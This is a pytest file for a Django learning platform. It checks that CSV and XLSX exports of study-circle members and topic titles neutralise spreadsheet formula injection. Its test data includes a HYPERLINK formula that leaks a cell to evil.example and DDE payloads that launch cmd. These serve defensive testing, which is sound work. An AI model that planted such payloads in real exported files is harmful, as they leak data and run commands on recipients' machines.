"""Spreadsheet exports never carry a live formula (CSV injection, OWASP).

A cell that starts with = + - @, a tab or a carriage return is read as a formula by
Excel and LibreOffice. In the CSV such text gets a leading single quote; in the XLSX
text is stored as text (never as a formula) and keeps its exact characters.
"""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from circles.models import CircleMembership
from courses.factories import TopicPageFactory
from ecirkel.spreadsheets import FORMULA_START, csv_cell
from users.factories import UserFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
DANGEROUS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(client, circle) -> list[list[str]]:
    response = client.get(f"/cirklar/{circle.uuid}/export.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))


def xlsx_cells(client, circle):
    response = client.get(f"/cirklar/{circle.uuid}/export.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows()]


def expected_csv(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_START) else text


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_cell_starting_with_a_formula_character_gets_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-0.5, 50, Decimal("-0.25"), "Klar", "Lisa -2", ""])
def test_numbers_and_harmless_text_are_left_as_they_are(value):
    assert csv_cell(value) == value


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["first_name", "last_name"])
@pytest.mark.parametrize("name", DANGEROUS)
def test_a_learner_named_like_a_formula_is_text_in_the_csv_and_the_xlsx(
    client, circle, circle_leader, field, name
):
    evil = UserFactory(username="eve", first_name="", last_name="")
    setattr(evil, field, name)
    evil.save()
    CircleMembership.objects.create(circle=circle, user=evil)
    full_name = evil.get_full_name()
    client.force_login(circle_leader)

    rows = csv_rows(client, circle)
    (row,) = (row for row in rows if row[0] == "eve")
    assert row[1] == expected_csv(full_name)
    for line in rows:
        for cell in line:
            assert not cell.startswith(FORMULA_START), cell

    sheet = xlsx_cells(client, circle)
    (cells,) = (cells for cells in sheet if cells[0].value == "eve")
    assert cells[1].value == full_name  # the text is intact, without a quote
    assert cells[1].data_type == "s"
    assert cells[2].value == 0 and cells[2].data_type == "n"  # a number stays one
    for line in sheet:
        for cell in line:
            assert cell.data_type != "f", cell.value
    if full_name.startswith(FORMULA_START):
        assert cells[1].quotePrefix  # Excel keeps it text when the cell is edited


@pytest.mark.django_db
@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_topic_titles_in_the_header_cannot_become_formulas(
    client, circle, circle_leader, course, prefix
):
    title = f"{prefix}SUM(A1:A9)"
    TopicPageFactory(parent=course, title=title, slug="farlig")
    client.force_login(circle_leader)

    # The page's last two columns: its state, then its score.
    header = csv_rows(client, circle)[0]
    assert header[-2:] == ["'" + title, "'" + title + " – poäng %"]

    header_cells = xlsx_cells(client, circle)[0]
    # XML reads a bare carriage return as a line feed; every other character stays.
    assert header_cells[-2].value == title.replace("\r", "\n")
    assert header_cells[-1].value == title.replace("\r", "\n") + " – poäng %"
    assert {cell.data_type for cell in header_cells[-2:]} == {"s"}


@pytest.mark.django_db
def test_a_name_with_a_control_character_does_not_break_the_xlsx(
    client, circle, circle_leader, learner
):
    learner.first_name, learner.last_name = "Lisa\x07", "Larsson"
    learner.save()
    client.force_login(circle_leader)
    sheet = xlsx_cells(client, circle)
    assert [c.value for c in sheet[1][:2]] == ["lisa", "Lisa Larsson"]
